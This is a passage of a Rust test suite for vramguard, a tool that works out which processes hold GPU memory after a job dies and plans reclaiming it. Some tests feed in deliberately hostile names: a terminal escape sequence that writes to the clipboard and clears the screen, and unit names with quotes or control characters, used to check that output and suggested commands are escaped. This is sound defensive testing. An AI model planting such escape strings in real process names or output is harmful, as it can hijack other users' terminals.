    ) {
        let n = |i: usize| nums[i];
        let n32 = |i: usize| nums[i].min(u32::MAX as u64) as u32;
        let mut g = gpu(0, 0, &[(100, Some(n(1))), (n32(2), Some(n(3)))]);
        if let Some(m) = g.memory.as_mut() {
            m.used = n(0);
            m.total = n(4);
            m.free = n(5);
        }
        g.utilization = Some(UtilizationWindow {
            since_ms: n(6),
            samples: vec![UtilizationSample {
                pid: 100,
                sm_percent: n32(7),
                mem_percent: n32(8),
                last_seen_ms: n(9),
                last_busy_ms: Some(n(10)),
            }],
        });
        let mut p = proc_(100, n32(11), n32(12), "python", &[0]);
        p.start_ticks = Some(n(13));
        p.uid = Some(n32(14));
        let mut s = snapshot(vec![g], vec![init(), p, proc_(n32(15), 1, n32(16), "x", &[0])]);
        s.taken_at_ms = n(17);
        s.host.clock_ticks_per_sec = n(18);
        s.host.boot_time_ms = Some(n(19));
        if let Some(w) = s.work.as_mut() {
            for sample in &mut w.processes {
                sample.cpu_ticks = n(20);
                sample.observed_ms = n(21);
                sample.observations = n32(22);
                sample.running_observations = n32(23);
            }
        }
        let policy = Policy {
            gpu_busy_recent_secs: n(6),
            idle_after_secs: n(9),
            ..Policy::default()
        };
        let report = classify(&s, &policy);
        let _ = vramguard_core::plan::plan_reclaim(&s, &report, &Default::default());
        let _ = diagnose(report);
    }
}

#[test]
fn the_agent_remembers_who_forked_an_orphan() {
    // The agent saw worker 4122 as a child of the trainer 4121 (its group leader 4120, a
    // shell, is gone too); both are gone now and the worker was re-parented to init.
    let mut worker = proc_(4122, 1, 4120, "pt_data_worker", &[0]);
    worker.earlier_ppid = Some(4121);
    let mut s = snapshot(
        vec![gpu(0, 4 * GIB, &[(4122, Some(4 * GIB))])],
        vec![init(), worker],
    );
    s.departed = vec![
        DepartedProcess {
            start_ticks: None,
            uid: None,
            pid: 4121,
            comm: Some("python3".into()),
            cmdline: Some(vec!["python3".into(), "train.py".into()]),
            gone_at_ms: NOW_MS - 5000,
        },
        DepartedProcess {
            start_ticks: None,
            uid: None,
            pid: 4120,
            comm: Some("sh".into()),
            cmdline: Some(vec!["sh".into(), "run.sh".into()]),
            gone_at_ms: NOW_MS - 6000,
        },
    ];
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Orphan);
    let ev = h.evidence.join("\n");
    assert!(
        ev.contains("its job leader 4120 (sh run.sh) is gone"),
        "{ev}"
    );
    assert!(ev.contains("forked by 4121 (python3), which died"), "{ev}");
}

/// The real driver's seed case (an H200, driver 580): a trainer that led its own process
/// group forked two workers after `cuInit` and was SIGKILLed. The driver still lists the dead
/// trainer with the context's memory; the workers keep it alive and are listed by nobody.
fn dead_trainer_with_forked_workers(trainer_group: u32, workers_group: u32) -> Snapshot {
    let mut script = proc_(436, 1, 436, "bash", &[]);
    script.sid = Some(436);
    let mut w1 = proc_(576, 1, workers_group, "python3", &[0]);
    let mut w2 = proc_(577, 1, workers_group, "python3", &[0]);
    w1.sid = Some(trainer_group);
    w2.sid = Some(trainer_group);
    let mut s = snapshot(
        vec![gpu(0, 20 * GIB, &[(446, Some(20 * GIB))])],
        vec![init(), script, w1, w2],
    );
    s.normalize();
    s
}

#[test]
fn a_dead_trainer_the_driver_still_lists_is_exited_and_kept_alive_by_its_forked_workers() {
    let s = dead_trainer_with_forked_workers(446, 446);
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    let exited = g.holders.iter().find(|h| h.pid == 446).unwrap();
    assert_eq!(exited.class, Class::Exited);
    assert_eq!(exited.keepers, vec![576, 577]);
    assert_eq!(exited.used_bytes, Some(20 * GIB));
    assert_eq!(exited.job.as_ref().unwrap().label, "pgid:446");
    assert_eq!(exited.dead_job.as_ref().unwrap().leader_pid, 446);
    assert!(exited.evidence[1].contains("kept alive by 576 (python3), 577 (python3)"));
    for pid in [576, 577] {
        let k = g.holders.iter().find(|h| h.pid == pid).unwrap();
        assert_eq!(k.class, Class::Hidden);
        assert_eq!(k.keeps_alive, Some(446));
        assert!(k.action.reclaimable, "{:?}", k.action);
        assert!(
            k.evidence[0].contains("keeps alive the context of exited pid 446")
                && k.evidence[0].contains("in the process group it led"),
            "{:?}",
            k.evidence
        );
    }
    assert_eq!(g.ghost_bytes, 20 * GIB, "the exited pid's memory is ghost");
    assert_eq!(g.reclaimable_bytes, 20 * GIB);
    assert_eq!(r.unexplained_bytes(), 0);
    let host = r.host.as_ref();
    assert!(host.is_none(), "no host facts in this snapshot");
    let d = diagnose(r.clone());
    assert!(!d.verdict.clean);
    assert_eq!(d.verdict.ghost_bytes, 20 * GIB);
    assert_eq!(d.verdict.reclaimable_bytes, 20 * GIB);
    let check = d.checks.iter().find(|c| c.name == "exited pids").unwrap();
    assert_eq!(check.status, CheckStatus::Fail);
}

/// [`dead_trainer_with_forked_workers`] as a collection that watched the workers being
/// forked records it: each worker's earlier parent 446 and its start time, and 446's
/// departure with the same start time.
fn seen_forked(mut s: Snapshot) -> Snapshot {
    for p in s
        .processes
        .iter_mut()
        .filter(|p| [576, 577].contains(&p.pid))
    {
        p.earlier_ppid = Some(446);
        p.earlier_parent_start_ticks = Some(4460);
    }
    s.departed.push(DepartedProcess {
        pid: 446,
        comm: Some("python3".into()),
        cmdline: None,
        gone_at_ms: NOW_MS - 5000,
        start_ticks: Some(4460),
        uid: Some(1000),
    });
    s
}

#[test]
fn workers_of_a_dead_trainer_under_a_live_script_are_reclaimable_when_idle() {
    // No job control: the trainer (446) and its workers were in the script's group 436, and
    // the script still runs. Seen forked by 446 (the same process: the start times match),
    // the workers are its keepers, reclaimed by default when idle.
    let s = seen_forked(dead_trainer_with_forked_workers(436, 436));
    let r = classify(&s, &Policy::default());
    let g = &r.gpus[0];
    let exited = g.holders.iter().find(|h| h.pid == 446).unwrap();
    assert_eq!(exited.keepers, vec![576, 577]);
    assert_eq!(exited.job.as_ref().unwrap().label, "pgid:436");
    assert!(exited.dead_job.is_none(), "the script's job lives");
    let k = g.holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, Some(446));
    assert!(!k.keeps_alive_unconfirmed);
    assert!(k.dead_job.is_none());
    assert!(k.action.reclaimable, "{:?}", k.action);
    assert!(
        k.evidence[0].contains("was forked by it (an earlier collection saw the parent)"),
        "{:?}",
        k.evidence
    );
    assert_eq!(g.ghost_bytes, 20 * GIB);
    assert_eq!(g.reclaimable_bytes, 20 * GIB);

    // Nothing but the re-parenting ties them (a one-shot look, nothing seen forked): 446 is
    // only the only exited pid listed, and an idle process of any live job re-parented on
    // this GPU (another user's too) would fit that. The memory is still ghost, the keepers
    // named, and the command that frees it names the job and asks for keepers; nothing is
    // reclaimed by default.
    let weak = dead_trainer_with_forked_workers(436, 436);
    let r = classify(&weak, &Policy::default());
    let g = &r.gpus[0];
    let k = g.holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, Some(446));
    assert!(k.keeps_alive_unconfirmed, "{k:#?}");
    assert!(!k.action.reclaimable, "{:?}", k.action);
    assert!(
        k.evidence[0].contains("only exited pid listed on GPU 0"),
        "{:?}",
        k.evidence
    );
    assert_eq!(
        k.action.command.as_deref(),
        Some("vramguard reclaim --gpu 0 --job pgid:436 --include keepers")
    );
    assert_eq!(g.ghost_bytes, 20 * GIB);
    assert_eq!(g.reclaimable_bytes, 0);

    // Work protects it, as everywhere.
    let mut busy = s.clone();
    let w = busy.work.as_mut().unwrap();
    let i = w.processes.iter().position(|p| p.pid == 576).unwrap();
    w.processes[i].cpu_ticks = 200;
    let r = classify(&busy, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert!(!k.action.reclaimable);
    assert!(k.action.summary.contains("is working"), "{:?}", k.action);
    // The exited pid's action quotes the keeper that holds its memory back, not the idle one.
    let exited = r.gpus[0].holders.iter().find(|h| h.pid == 446).unwrap();
    assert!(
        exited.action.summary.ends_with(&k.action.summary),
        "{:?}",
        exited.action
    );
    assert_eq!(r.gpus[0].ghost_bytes, 20 * GIB, "still ghost memory");

    // A live process of the same group listed on the GPU: the workers may have inherited its
    // context instead. Not acted on.
    let mut kin = weak.clone();
    kin.gpus[0] = gpu(0, 30 * GIB, &[(446, Some(20 * GIB)), (600, Some(10 * GIB))]);
    let mut second = proc_(600, 436, 436, "python3", &[0]);
    second.sid = Some(436);
    kin.processes.push(second);
    kin.normalize();
    kin.work = Some(WorkWindow::all_idle(&kin, 2000));
    let r = classify(&kin, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, None);
    assert!(!k.action.reclaimable, "{:?}", k.action);
    let exited = r.gpus[0].holders.iter().find(|h| h.pid == 446).unwrap();
    assert_eq!(exited.keepers, vec![576, 577], "possible keepers are named");

    // The same live kin listed on another GPU: its workers hold every GPU's device file.
    let mut kin2 = weak.clone();
    kin2.gpus.push(gpu(1, 10 * GIB, &[(600, Some(10 * GIB))]));
    let mut second = proc_(600, 436, 436, "python3", &[0, 1]);
    second.sid = Some(436);
    kin2.processes.push(second);
    kin2.normalize();
    kin2.work = Some(WorkWindow::all_idle(&kin2, 2000));
    let r = classify(&kin2, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, None, "{k:#?}");
    assert!(!k.action.reclaimable);

    // A re-parented holder leading its own group (a daemon that double-forked from a live
    // trainer) is no keeper by re-parenting alone.
    let mut daemon = weak.clone();
    for p in daemon.processes.iter_mut().filter(|p| p.pid == 576) {
        p.pgid = Some(576);
        p.sid = Some(576);
    }
    let r = classify(&daemon, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, None);
    assert!(!k.action.reclaimable);
    // Seen forked by the trainer, it keeps the trainer's context; but it made itself a job
    // of its own (setsid), which lives: named, and left to its owner by default.
    let mut daemon = s.clone();
    for p in daemon.processes.iter_mut().filter(|p| p.pid == 576) {
        p.pgid = Some(576);
        p.sid = Some(576);
    }
    let r = classify(&daemon, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, Some(446), "{k:#?}");
    assert!(!k.action.reclaimable, "{:?}", k.action);
    assert_eq!(
        k.action.command.as_deref(),
        Some("vramguard reclaim --gpu 0 --job pgid:576 --include keepers")
    );
}

#[test]
fn a_keeper_in_a_live_cgroup_job_is_named_but_not_reclaimed_by_default() {
    let mut s = dead_trainer_with_forked_workers(436, 436);
    for p in s
        .processes
        .iter_mut()
        .filter(|p| [576, 577].contains(&p.pid))
    {
        p.cgroup = Some("/system.slice/train.service".into());
    }
    let r = classify(&s, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.keeps_alive, Some(446));
    assert!(!k.action.reclaimable);
    assert!(
        k.action.command.as_deref()
            == Some("vramguard reclaim --gpu 0 --job unit:train.service --include keepers"),
        "{:?}",
        k.action
    );
    assert_eq!(r.gpus[0].ghost_bytes, 20 * GIB);
    assert_eq!(r.gpus[0].reclaimable_bytes, 0);
}

/// Every command a keeper is offered goes through the planner (which checks work and pid
/// reuse): a unit name with systemd's escapes or a quote is single-quoted, one with control
/// characters gets no command, and a working keeper none at all. A bare `kill` was offered.
#[test]
fn a_keepers_command_goes_through_the_planner_whatever_its_units_name() {
    let in_unit = |cgroup: &str| {
        let mut s = dead_trainer_with_forked_workers(436, 436);
        for p in s
            .processes
            .iter_mut()
            .filter(|p| [576, 577].contains(&p.pid))
        {
            p.cgroup = Some(cgroup.into());
        }
        s
    };
    let action_of = |s: &Snapshot| {
        let r = classify(s, &Policy::default());
        r.gpus[0]
            .holders
            .iter()
            .find(|h| h.pid == 576)
            .unwrap()
            .action
            .clone()
    };
    let escaped = in_unit(r"/system.slice/train@gpu\x2d0.service");
    assert_eq!(
        action_of(&escaped).command.as_deref(),
        Some(r"vramguard reclaim --gpu 0 --job 'unit:train@gpu\x2d0.service' --include keepers")
    );
    // The label the command names is the one the planner matches.
    let opts = vramguard_core::plan::ReclaimOptions {
        job_label: Some(r"unit:train@gpu\x2d0.service".into()),
        include_keepers: true,
        ..Default::default()
    };
    let plan = vramguard_core::plan::plan_reclaim(
        &escaped,
        &classify(&escaped, &Policy::default()),
        &opts,
    );
    assert!(plan.targets().any(|t| t.pid == 576), "{plan:#?}");
    let quoted = in_unit("/system.slice/it's.service");
    assert_eq!(
        action_of(&quoted).command.as_deref(),
        Some(r"vramguard reclaim --gpu 0 --job 'unit:it'\''s.service' --include keepers")
    );
    let control = in_unit("/system.slice/a\u{1b}[2Jb.service");
    let a = action_of(&control);
    assert_eq!(a.command, None, "{a:?}");
    assert!(a.summary.contains("control characters"), "{a:?}");
    let mut working = in_unit(r"/system.slice/train@gpu\x2d0.service");
    for w in &mut working.work.as_mut().unwrap().processes {
        if w.pid == 576 {
            w.cpu_ticks = 150;
        }
    }
    let a = action_of(&working);
    assert_eq!(a.command, None, "{a:?}");
    assert!(!a.reclaimable);
}

#[test]
fn unprivileged_an_exited_pid_is_unexplained_not_a_live_jobs() {
    let mut s = dead_trainer_with_forked_workers(446, 446);
    s.host.euid = 65534;
    for p in s.processes.iter_mut().filter(|p| p.uid != Some(65534)) {
        p.device_files = FdScan::Denied;
    }
    let r = classify(&s, &Policy::default());
    let exited = r.gpus[0].holders.iter().find(|h| h.pid == 446).unwrap();
    assert_eq!(exited.class, Class::Exited);
    assert!(exited.keepers.is_empty());
    assert!(exited.kept_by_unseen);
    assert_eq!(
        exited.action.command.as_deref(),
        Some("sudo vramguard diagnose"),
        "{:?}",
        exited.action
    );
    assert!(
        exited
            .evidence
            .iter()
            .any(|e| e.contains("cannot read other users' open files")),
        "{:?}",
        exited.evidence
    );
    assert_eq!(r.gpus[0].ghost_bytes, 0);
    assert_eq!(r.unexplained_bytes(), 20 * GIB);
    let d = diagnose(r);
    assert!(!d.verdict.clean);
    assert!(!d.verdict.summary.contains("accounted for by a live job"));
}

#[test]
fn a_listed_pid_that_is_a_nested_namespaces_pid_is_foreign_not_exited() {
    // The driver reports 7, the pid a process has inside its own PID namespace; that process
    // (host pid 5123) holds no device file vramguard could map it by.
    let mut inside = proc_(5123, 5100, 5100, "sleep", &[]);
    inside.nspid = vec![5123, 7];
    let s = snapshot(
        vec![gpu(0, 2 * GIB, &[(7, Some(2 * GIB))])],
        vec![init(), inside],
    );
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Foreign, "{:?}", h.evidence);
    // Without that process, the pid has exited.
    let s = snapshot(vec![gpu(0, 2 * GIB, &[(7, Some(2 * GIB))])], vec![init()]);
    let h = &classify(&s, &Policy::default()).gpus[0].holders[0];
    assert_eq!(h.class, Class::Exited);
}

// ---- jobs under a live supervisor (issue 26) ----

/// The login session `vramguard run` was started from, and so the cgroup its supervisor
/// lives in.
const SESSION: &str = "/user.slice/user-1000.slice/session-3.scope";

/// The red team's case: `vramguard run` (44) runs `bash job.sh` (45, alive); the job's
/// helper (46) called `setsid`, started an idle holder (47) and exited, so the holder was
/// re-parented to the supervisor. `cgroup`: the job runs in `vramguard-run-44`.
fn supervised_case(cgroup: bool) -> Snapshot {
    let mut sup = proc_(44, 30, 44, "vramguard", &[]);
    sup.cmdline = Some(
        [
            "vramguard",
            "run",
            "--isolation",
            "group",
            "--",
            "bash",
            "job.sh",
        ]
        .map(String::from)
        .to_vec(),
    );
    sup.start_ticks = Some(500);
    sup.cgroup = Some(SESSION.into());
    let job_cgroup = if cgroup {
        format!("{SESSION}/vramguard-run-44")
    } else {
        SESSION.to_string()
    };
    let mut main = proc_(45, 44, 45, "bash", &[]);
    main.cgroup = Some(job_cgroup.clone());
    let mut holder = proc_(47, 44, 46, "python3", &[0]);
    holder.sid = Some(46);
    holder.cgroup = Some(job_cgroup);
    let mut shell = proc_(30, 1, 30, "bash", &[]);
    shell.cgroup = Some(SESSION.into());
    snapshot(
        vec![gpu(0, 6 * GIB, &[(47, Some(6 * GIB))])],
        vec![init(), shell, sup, main, holder],
    )
}

fn holder_of(s: &Snapshot, pid: u32) -> vramguard_core::report::Holder {
    let r = classify(s, &Policy::default());
    r.gpus[0]
        .holders
        .iter()
        .find(|h| h.pid == pid)
        .unwrap()
        .clone()
}

#[test]
fn a_holder_re_parented_to_a_live_vramguard_run_belongs_to_its_job() {
    for cgroup in [false, true] {
        let h = holder_of(&supervised_case(cgroup), 47);
        assert_eq!(h.class, Class::Active, "cgroup {cgroup}: {h:#?}");
        assert!(!h.action.reclaimable);
        assert!(h.dead_job.is_none());
        let job = h.job.as_ref().unwrap();
        assert_eq!(job.label, "run:44");
        assert_eq!(job.kind, vramguard_core::job::JobKind::Supervised);
        assert_eq!(job.alive, Some(true));
        let ev = h.evidence.join("\n");
        if cgroup {
            assert!(
                ev.contains(
                    "in vramguard run 44's cgroup /user.slice/user-1000.slice/session-3.scope/\
                     vramguard-run-44, whose supervisor lives"
                ),
                "{ev}"
            );
        } else {
            assert!(
                ev.contains(
                    "re-parented to the vramguard run supervisor 44 (vramguard), which lives"
                ),
                "{ev}"
            );
        }
    }
}

#[test]
fn once_the_supervisor_is_gone_its_escaped_holder_is_judged_as_before() {
    for cgroup in [false, true] {
        let mut s = supervised_case(cgroup);
        // vramguard run was SIGKILLed: its job's main process died with it, the holder was
        // re-parented to init (a stale `vramguard-run-44` cgroup may remain).
        s.processes.retain(|p| p.pid != 44 && p.pid != 45);
        s.processes.iter_mut().find(|p| p.pid == 47).unwrap().ppid = Some(1);
        let h = holder_of(&s, 47);
        assert_eq!(h.class, Class::Orphan, "cgroup {cgroup}: {h:#?}");
        assert!(h.action.reclaimable);
        assert_eq!(h.job.as_ref().unwrap().label, "pgid:46");
        let ev = h.evidence.join("\n");
        assert!(ev.contains("re-parented to init"), "{ev}");
    }
}

#[test]
fn a_vramguard_run_cgroup_counts_only_with_its_own_live_supervisor() {
    // The holder is in the run's cgroup but was not adopted by it (moved in, or re-parented
    // to init): only the cgroup can keep it.
    let case = |edit: &dyn Fn(&mut ProcessFacts)| {
        let mut s = supervised_case(true);
        s.processes.iter_mut().find(|p| p.pid == 47).unwrap().ppid = Some(1);
        edit(s.processes.iter_mut().find(|p| p.pid == 44).unwrap());
        holder_of(&s, 47)
    };
    let kept = case(&|_| {});
    assert_eq!(kept.class, Class::Active, "{kept:#?}");
    assert_eq!(kept.job.as_ref().unwrap().label, "run:44");
    // Its cgroup unreadable: unsure, so taken as the supervisor.
    let unsure = case(&|s| s.cgroup = None);
    assert_eq!(unsure.class, Class::Active, "{unsure:#?}");
    // A leaf at the root of the hierarchy (only root makes one there): a hybrid host records
    // a supervisor at the v2 root by its v1 path.
    let at_root = {
        let mut s = supervised_case(true);
        for p in &mut s.processes {
            if p.pid == 47 {
                p.cgroup = Some("/vramguard-run-44".into());
                p.ppid = Some(1);
            }
            if p.pid == 44 {
                p.cgroup = Some("/process_api/920f25ea".into());
            }
        }
        holder_of(&s, 47)
    };
    assert_eq!(
        at_root.job.as_ref().unwrap().label,
        "run:44",
        "{at_root:#?}"
    );
    // Not named by its command: the kernel's facts decide.
    let renamed = case(&|s| {
        s.comm = Some("vg".into());
        s.cmdline = None;
    });
    assert_eq!(renamed.class, Class::Active, "{renamed:#?}");
    // Older than the supervisor (moved into its cgroup), kept by a supervisor that calls
    // itself `vramguard run`.
    let older = case(&|s| s.start_ticks = Some(5000));
    assert_eq!(older.job.as_ref().unwrap().label, "run:44", "{older:#?}");
    // Pid 44 is now another process: elsewhere in the tree, or another program started after
    // the holder (a reused pid), or a zombie.
    for (what, h) in [
        (
            "another cgroup",
            case(&|s| s.cgroup = Some("/system.slice/cron.service".into())),
        ),
        (
            "started later",
            case(&|s| {
                s.start_ticks = Some(5000);
                s.comm = Some("bash".into());
                s.cmdline = Some(vec!["bash".into()]);
            }),
        ),
        ("a zombie", case(&|s| make_pure_zombie(s))),
    ] {
        assert_eq!(h.class, Class::Orphan, "{what}: {h:#?}");
        assert_eq!(h.job.as_ref().unwrap().label, "pgid:46", "{what}");
    }
}

#[test]
fn a_run_in_its_own_pid_namespace_is_found_through_nspid() {
    // `vramguard run` inside a container: its cgroup names its pid there (7), not here (44).
    let mut s = supervised_case(true);
    for p in &mut s.processes {
        if let Some(cg) = p.cgroup.as_mut() {
            *cg = cg.replace("vramguard-run-44", "vramguard-run-7");
        }
        if p.pid == 44 {
            p.nspid = vec![44, 7];
        }
        if p.pid == 47 {
            p.ppid = Some(1);
        }
    }
    let h = holder_of(&s, 47);
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert_eq!(h.job.as_ref().unwrap().label, "run:44");
}

#[test]
fn only_supervisors_that_end_with_their_job_keep_what_they_adopted() {
    // Adopter 60 with this command; holder 61 re-parented to it, its group leader (62) gone.
    let with_exe = |comm: &str, cmdline: &[&str], exe: Option<&str>| {
        let mut adopter = proc_(60, 1, 60, comm, &[]);
        adopter.cmdline = Some(cmdline.iter().map(|s| s.to_string()).collect());
        adopter.exe = exe.map(|path| ExeFacts {
            path: path.into(),
            deleted: false,
            owner_uid: 0,
            mode: 0o755,
        });
        let s = snapshot(
            vec![gpu(0, 2 * GIB, &[(61, Some(2 * GIB))])],
            vec![init(), adopter, proc_(61, 60, 62, "python3", &[0])],
        );
        holder_of(&s, 61)
    };
    let case = |comm: &str, cmdline: &[&str]| with_exe(comm, cmdline, None);
    for (comm, label) in [
        ("tini", "tini:60"),
        ("tini-static", "tini:60"),
        ("dumb-init", "dumb-init:60"),
        ("docker-init", "docker-init:60"),
    ] {
        let h = case(comm, &[comm, "--", "python3", "train.py"]);
        assert_eq!(h.class, Class::Active, "{comm}: {h:#?}");
        assert_eq!(h.job.as_ref().unwrap().label, label);
        let ev = h.evidence.join("\n");
        assert!(
            ev.contains(&format!(
                "re-parented to the container init 60 ({comm}), which lives"
            )),
            "{ev}"
        );
    }
    // Adopters that outlive the jobs they adopt from keep nothing (deliberately), also when
    // their executable is read and is theirs.
    for (comm, cmdline, exe) in [
        (
            "systemd",
            &["/lib/systemd/systemd", "--user"][..],
            Some("/usr/lib/systemd/systemd"),
        ),
        ("systemd", &["/lib/systemd/systemd", "--user"][..], None),
        (
            "containerd-shim",
            &["containerd-shim-runc-v2"][..],
            Some("/usr/bin/containerd-shim-runc-v2"),
        ),
        ("conmon", &["conmon"][..], Some("/usr/bin/conmon")),
    ] {
        let h = with_exe(comm, cmdline, exe);
        assert_eq!(h.class, Class::Orphan, "{comm} {cmdline:?}: {h:#?}");
        let ev = h.evidence.join("\n");
        assert!(
            ev.contains(&format!("re-parented to the subreaper 60 ({comm})")),
            "{ev}"
        );
    }
    // A process that only took an adopter's name (red team: `prctl(PR_SET_NAME)`, its
    // executable another program), and a vramguard that is not `run` (a `vramguard probe`'s
    // holders are its job): ordinary live parents, whose job the holder's is.
    for (comm, cmdline, exe) in [
        (
            "systemd",
            &["python3", "serve.py"][..],
            Some("/usr/bin/python3.12"),
        ),
        (
            "init",
            &["python3", "init.py"][..],
            Some("/usr/bin/python3.12"),
        ),
        ("vramguard", &["vramguard", "agent"][..], None),
        ("vramguard", &["vramguard", "probe", "release"][..], None),
        ("vramguard", &["vramguard", "sim", "--", "run"][..], None),
    ] {
        let h = with_exe(comm, cmdline, exe);
        assert_eq!(h.class, Class::Active, "{comm} {cmdline:?}: {h:#?}");
        let ev = h.evidence.join("\n");
        assert!(ev.contains("parent 60"), "{comm} {cmdline:?}: {ev}");
    }
}

#[test]
fn supervised_job_evidence_escapes_what_other_users_named() {
    let mut s = supervised_case(true);
    let evil = "\u{1b}]52;c;ZXZpbA==\u{7}\r\u{1b}[2K";
    for p in &mut s.processes {
        if let Some(cg) = p.cgroup.as_mut()
            && cg.contains("vramguard-run-44")
        {
            *cg = format!("{SESSION}/job{evil}/vramguard-run-44");
        }
        if p.pid == 44 {
            p.cgroup = Some(format!("{SESSION}/job{evil}"));
            p.comm = Some(format!("vg{evil}"));
        }
    }
    let h = holder_of(&s, 47);
    assert_eq!(h.class, Class::Active, "{h:#?}");
    let ev = h.evidence.join("\n");
    assert!(ev.contains("vramguard run 44's cgroup"), "{ev}");
    assert!(!ev.chars().any(|c| c.is_control() && c != '\n'), "{ev:?}");
}

#[test]
fn a_live_supervisor_outranks_a_slurm_step_whose_daemon_is_gone() {
    // `srun vramguard run --isolation group …`: the step daemon died, the supervisor lives.
    let step = "/slurm/uid_1000/job_42/step_0/task_0";
    let mut s = supervised_case(false);
    for p in &mut s.processes {
        if matches!(p.pid, 44 | 45 | 47) {
            p.cgroup = Some(step.into());
        }
    }
    s.job_cgroups = vec![JobCgroupFacts {
        root: "/slurm/uid_1000/job_42".into(),
        readable: true,
        members: 3,
        namespace_inits: vec![],
        step_daemons: vec![],
        nested_pid_namespace: false,
        complete: true,
        owner_uid: Some(0),
    }];
    let h = holder_of(&s, 47);
    assert_eq!(h.class, Class::Active, "{h:#?}");
    assert_eq!(h.job.as_ref().unwrap().label, "run:44");
    // Without the supervisor, the step's death decides.
    s.processes.retain(|p| p.pid != 44 && p.pid != 45);
    s.processes.iter_mut().find(|p| p.pid == 47).unwrap().ppid = Some(1);
    let h = holder_of(&s, 47);
    assert_eq!(h.class, Class::Orphan, "{h:#?}");
    assert_eq!(h.job.as_ref().unwrap().label, "slurm:42.0");
}

#[test]
fn vramguard_run_asking_about_its_own_ended_job_is_no_keeper_of_it() {
    // `run`'s summary names what still holds memory after its job ended: the supervisor is
    // the one asking, and its own life says nothing about the job.
    for cgroup in [false, true] {
        let mut s = supervised_case(cgroup);
        s.processes.retain(|p| p.pid != 45);
        s.host.self_pid = 44;
        let h = holder_of(&s, 47);
        assert_eq!(h.class, Class::Orphan, "cgroup {cgroup}: {h:#?}");
    }
}

#[test]
fn a_keeper_inside_a_live_vramguard_run_is_never_reclaimed_even_by_name() {
    // The workers sit in the run's cgroup; the run (436) lives: they end with its job.
    let mut s = dead_trainer_with_forked_workers(436, 436);
    for p in s
        .processes
        .iter_mut()
        .filter(|p| [576, 577].contains(&p.pid))
    {
        p.cgroup = Some("/user.slice/vramguard-run-436".into());
    }
    let r = classify(&s, &Policy::default());
    let k = r.gpus[0].holders.iter().find(|h| h.pid == 576).unwrap();
    assert_eq!(k.job.as_ref().unwrap().label, "run:436", "{k:#?}");
    assert_eq!(k.keeps_alive, Some(446));
    assert!(!k.action.reclaimable);
    assert_eq!(k.action.command, None, "{:?}", k.action);
    let opts = vramguard_core::plan::ReclaimOptions {
        include_keepers: true,
        job_label: Some("run:436".into()),
        ..Default::default()
    };
    let plan = vramguard_core::plan::plan_reclaim(&s, &r, &opts);
    assert!(plan.is_empty(), "{plan:#?}");
    assert!(
        plan.left_alone
            .iter()
            .any(|l| l.pid == 576 && l.reason.contains("live supervisor")),
        "{:?}",
        plan.left_alone
    );
}

/// The other side of the supervisor rule: a keeper in a plain process-group job (a script
/// without job control that still runs after its trainer died) is planned by default. Only a
/// keeper whose job a live supervisor runs is refused; narrowing that rule to the supervised
/// kind is what lets this one go (the `&&` of `plan.rs`'s supervised-keeper arm).
#[test]
fn a_keeper_in_a_live_plain_process_group_is_planned_by_default() {
    let s = seen_forked(dead_trainer_with_forked_workers(436, 436));
    let r = classify(&s, &Policy::default());
    let plan = vramguard_core::plan::plan_reclaim(&s, &r, &Default::default());
    let targets: Vec<u32> = plan.targets().map(|t| t.pid).collect();
    assert_eq!(targets, vec![576, 577], "{plan:#?}");
    // Tied by elimination alone: only when keepers are asked for.
    let weak = dead_trainer_with_forked_workers(436, 436);
    let r = classify(&weak, &Policy::default());
    let plan = vramguard_core::plan::plan_reclaim(&weak, &r, &Default::default());
    assert!(plan.is_empty(), "{plan:#?}");
    assert!(
        plan.left_alone
            .iter()
            .any(|l| l.pid == 576 && l.reason.contains("add --include keepers")),
        "{:?}",
        plan.left_alone
    );
    let asked = vramguard_core::plan::ReclaimOptions {
        include_keepers: true,
        ..Default::default()
    };
    let plan = vramguard_core::plan::plan_reclaim(&weak, &r, &asked);
    let targets: Vec<u32> = plan.targets().map(|t| t.pid).collect();
    assert_eq!(targets, vec![576, 577], "{plan:#?}");
    assert!(
        !plan
            .left_alone
            .iter()
            .any(|l| l.reason.contains("live supervisor")),
        "{:?}",
        plan.left_alone
    );
}

/// A keeper of an exited pid's context whose tree was re-parented to a live container init
/// (tini): its job is the container's, which a live supervisor runs. It is no inheritor that
/// may go by default (only a plain process group's keeper is), although its job has a tree top.
#[test]
fn a_keeper_adopted_by_a_live_container_init_is_never_reclaimed_by_default() {
    let mut s = dead_trainer_with_forked_workers(446, 446);
    let mut tini = proc_(60, 1, 60, "tini", &[]);
    tini.cmdline = Some(vec!["tini".into(), "--".into(), "python3".into()]);
    s.processes.push(tini);
    for p in s
        .processes
        .iter_mut()
        .filter(|p| [576, 577].contains(&p.pid))
    {
        p.ppid = Some(60);
    }
    s.normalize();
    let r = classify(&s, &Policy::default());
    for pid in [576, 577] {
        let k = r.gpus[0].holders.iter().find(|h| h.pid == pid).unwrap();
        assert_eq!(k.keeps_alive, Some(446));
        assert_eq!(k.job.as_ref().unwrap().label, "tini:60");
        assert!(!k.action.reclaimable, "{:?}", k.action);
        assert_eq!(k.action.command, None, "{:?}", k.action);
    }
    let plan = vramguard_core::plan::plan_reclaim(&s, &r, &Default::default());
    assert!(plan.targets().next().is_none(), "{plan:#?}");
}

/// A keeper whose own job is gone gets the action of a hidden holder of a dead job (its job is
/// gone and it does no work: `--include hidden`), not a keeper's; a keeper whose job lives gets
/// a keeper's. Both say what the work sample saw.
#[test]
fn a_keepers_action_follows_whether_its_job_is_gone_and_both_show_its_work() {
    let work_line = |h: &vramguard_core::report::Holder| {
